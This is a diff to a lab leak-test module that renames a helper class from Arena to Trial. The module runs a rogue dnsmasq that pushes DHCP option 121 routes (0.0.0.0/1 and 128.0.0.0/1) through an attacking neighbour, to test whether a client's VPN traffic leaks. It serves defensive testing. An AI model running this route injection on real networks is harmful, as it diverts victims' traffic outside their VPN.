@@ -7,9 +7,9 @@ from __future__ import annotations
 import ipaddress
 
 from psiphon_lab.addresses import LAN_A, NEIGHBOUR4
-from psiphon_lab.leaktest.arena import Arena
 from psiphon_lab.leaktest.attack import Attack
 from psiphon_lab.leaktest.model import Actor, Mode
+from psiphon_lab.leaktest.trial import Trial
 from psiphon_lab.namespace import LabError
 from psiphon_lab.sending import volley
 
@@ -26,44 +26,44 @@ for half in 0.0.0.0/1 128.0.0.0/1; do ip route replace $half via {attacker} dev 
 """
 
 
-def serve_routes(arena: Arena) -> None:
+def serve_routes(trial: Trial) -> None:
     """Run a real dnsmasq on the provider's LAN; its option 121 leads to the attacker, the neighbour."""
     routes = ",".join(f"{half},{NEIGHBOUR4}" for half in HALVES)
     network = ipaddress.ip_network(LAN_A.network4)
-    lease = str(arena.scratch("leases", shared=True))
-    arena.spawn(
+    lease = str(trial.scratch("leases", shared=True))
+    trial.spawn(
         [
             "dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--port=0", "--interface=lan",
             "--bind-interfaces", "--user=root", f"--dhcp-leasefile={lease}", "--dhcp-authoritative", "--no-ping",
             f"--dhcp-range={network[10]},{network[100]},{network.netmask},10m",
             f"--dhcp-host={LAN_A.mac},{LAN_A.client4}", f"--dhcp-option=121,{routes}",
         ],
-        host=arena.stage.world.provider_a,
+        host=trial.testbed.world.provider_a,
     )  # fmt: skip
-    arena.wait(0.15)
+    trial.wait(0.15)
 
 
-def forget_routes(arena: Arena) -> None:
+def forget_routes(trial: Trial) -> None:
     """Remove the attack's routes from the main table at the end."""
     for half in HALVES:
-        arena.undo("ip", "route", "del", half, "metric", "5")
+        trial.undo("ip", "route", "del", half, "metric", "5")
 
 
-def require_routes(arena: Arena) -> None:
+def require_routes(trial: Trial) -> None:
     """The attack counts only if the routes arrived, except in the state that unplugs the cable again and again."""
-    routes = arena.client.run(["ip", "route"]).stdout
+    routes = trial.client.run(["ip", "route"]).stdout
     has_arrived = all(half in routes for half in HALVES)
-    arena.say("0.0.0.0/1 and 128.0.0.0/1 came over DHCP" if has_arrived else "the routes did not come")
-    if not has_arrived and arena.mode is not Mode.TRANSITION:
+    trial.say("0.0.0.0/1 and 128.0.0.0/1 came over DHCP" if has_arrived else "the routes did not come")
+    if not has_arrived and trial.mode is not Mode.TRANSITION:
         raise LabError("the routes did not arrive over DHCP")
 
 
-def run(arena: Arena) -> None:
+def run(trial: Trial) -> None:
     """Let udhcpc request an address; dnsmasq answers with 0.0.0.0/1 and 128.0.0.0/1 via the neighbour; then send."""
-    serve_routes(arena)
-    forget_routes(arena)
-    script = arena.scratch("udhcpc.sh", APPLY, mode=0o755)
-    arena.run(
+    serve_routes(trial)
+    forget_routes(trial)
+    script = trial.scratch("udhcpc.sh", APPLY, mode=0o755)
+    trial.run(
         "timeout",
         "6",
         "udhcpc",
@@ -81,8 +81,8 @@ def run(arena: Arena) -> None:
         "-O",
         "121",
     )
-    require_routes(arena)
-    volley(arena, "with the routes")
+    require_routes(trial)
+    volley(trial, "with the routes")
 
 
 ATTACK = Attack(
